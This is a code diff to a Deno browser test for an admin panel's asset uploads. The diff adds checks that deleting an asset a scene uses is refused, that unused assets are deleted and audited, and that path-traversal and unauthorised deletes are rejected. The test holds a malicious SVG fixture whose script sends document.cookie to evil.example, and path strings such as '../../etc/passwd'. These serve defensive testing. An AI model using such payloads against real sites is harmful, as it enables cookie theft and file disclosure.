@@ -5,7 +5,10 @@
  * compositor's assets; a malicious SVG (named .png, sent as image/png), a text
  * file named .png, an oversized upload, a path name (`../../etc/passwd`), a
  * viewer's upload and one without the CSRF token are refused, each with its
- * message, and nothing is written outside the folder.
+ * message, and nothing is written outside the folder. The list says which
+ * scenes use each asset; deleting one a scene uses is refused naming the
+ * scene, one nobody uses is deleted (audited); a path, a missing file and a
+ * viewer are refused.
  */
 import assert from "node:assert/strict";
 import { createCanvas } from "@napi-rs/canvas";
@@ -15,11 +18,14 @@ import {
   ARTIFACTS,
   browserSignIn,
   chromiumReady,
+  httpRequest,
   launchChromium,
   panelEngine,
+  sessionHeaders,
 } from "./panel_kit.ts";
 
 const ready = await chromiumReady();
+const SCENES = new URL("../../scenes/", import.meta.url).pathname;
 const SVG = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">
 <script>fetch('https://evil.example/'+document.cookie)</script><image href="file:///etc/passwd"/></svg>`;
 
@@ -40,12 +46,23 @@ Deno.test({
   sanitizeOps: false,
   async fn() {
     const dir = await Deno.makeTempDir({ prefix: "sothebais-assets-" });
+    // The scenes the panel edits: live names the upload as its background.
+    const scenes = await Deno.makeTempDir({ prefix: "sothebais-assets-scenes-" });
+    for (const e of Deno.readDirSync(SCENES)) {
+      if (e.isFile && e.name.endsWith(".json")) {
+        Deno.copyFileSync(`${SCENES}${e.name}`, `${scenes}/${e.name}`);
+      }
+    }
+    const live = JSON.parse(Deno.readTextFileSync(`${scenes}/live.json`));
+    live.background = { kind: "image", src: "uploads/genesis-art.png" };
+    Deno.writeTextFileSync(`${scenes}/live.json`, JSON.stringify(live));
     const engine = await panelEngine({
       plugins: {
         "funds-book": {},
         auction: { watermark: "clock" },
         compositor: { assetsDir: dir },
       },
+      admin: { scenesDir: scenes },
     });
     const browser = await launchChromium();
     Deno.mkdirSync(ARTIFACTS, { recursive: true });
@@ -142,11 +159,69 @@ Deno.test({
       const outsider = await fetch(`${engine.url}/admin/api/assets/uploads/genesis-art.png`);
       assert.equal(outsider.status, 401);
       await outsider.body?.cancel();
+
+      // Used by a scene: the list says which, and a delete is refused naming it.
+      const usedBy = (path: string) => page.textContent(`[data-path="${path}"] .used-by`);
+      assert.equal(await usedBy("uploads/genesis-art.png"), "used by live");
+      await page.fill("#asset-reason", "clearing out old art");
+      await page.click('[data-path="uploads/genesis-art.png"] .asset-delete');
+      await page.waitForFunction(() =>
+        /is used by/.test(document.getElementById("asset-notice")?.textContent ?? "")
+      );
+      assert.equal(
+        await page.textContent("#asset-notice"),
+        "uploads/genesis-art.png is used by scene live: take it out of it first",
+      );
+      assert.ok(Deno.statSync(`${dir}/uploads/genesis-art.png`).isFile);
+      // One nobody uses is deleted, and goes from the list.
+      assert.equal((await send("spare", png)).status, 200);
+      await page.reload();
+      await page.waitForSelector('[data-path="uploads/spare.png"]');
+      assert.equal(await usedBy("uploads/spare.png"), "not used by a scene");
+      await page.fill("#asset-reason", "not needed");
+      await page.click('[data-path="uploads/spare.png"] .asset-delete');
+      await page.waitForFunction(() => !document.querySelector('[data-path="uploads/spare.png"]'));
+      assert.equal(await page.textContent("#asset-notice"), "Deleted uploads/spare.png.");
+      assert.deepEqual([...Deno.readDirSync(`${dir}/uploads`)].map((e) => e.name), [
+        "genesis-art.png",
+      ]);
+      const del = (path: string, who = s) =>
+        httpRequest(engine.url, "DeleteAsset", { path, reason: "hostile" }, sessionHeaders(who));
+      for (
+        const [path, status, message] of [
+          ["../../etc/passwd", 400, /^path: /],
+          ["uploads/../../x.png", 400, /^path: /],
+          ["uploads/nope.png", 404, /no asset/],
+          ["uploads/genesis-art.png", 409, /used by scene live/],
+        ] as const
+      ) {
+        const r = await del(path);
+        assert.equal(r.status, status, path);
+        assert.match(r.json.message, message, path);
+      }
+      assert.equal((await del("uploads/genesis-art.png", v)).status, 403);
+      const audit = await httpRequest(
+        engine.url,
+        "ListAudit",
+        { action: "asset.delete" },
+        sessionHeaders(s),
+      );
+      assert.deepEqual(
+        (audit.json.responseData.entries as Array<{ subject: string; outcome: string }>)
+          .map((e) => `${e.subject} ${e.outcome}`).sort(),
+        [
+          "uploads/genesis-art.png failed",
+          "uploads/genesis-art.png failed",
+          "uploads/nope.png failed",
+          "uploads/spare.png ok",
+        ],
+      );
       await Deno.remove(file);
     } finally {
       await browser.close();
       await engine.stop();
       await Deno.remove(dir, { recursive: true });
+      await Deno.remove(scenes, { recursive: true });
     }
   },
 });
